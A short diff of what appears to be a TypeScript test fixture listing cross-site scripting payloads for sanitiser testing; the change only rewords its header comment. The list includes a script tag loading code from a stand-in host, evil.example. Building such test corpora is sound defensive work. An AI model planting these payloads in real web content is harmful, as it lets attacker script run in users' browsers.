@@ -1,4 +1,4 @@
-/** Attacks in the manner of the OWASP filter evasion cheat sheet, DOMPurify's mutation cases and Markdown's own doors. */
+/** Attacks from the OWASP filter evasion cheat sheet, DOMPurify's mutation cases and Markdown-specific ones. */
 export const XSS_CORPUS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
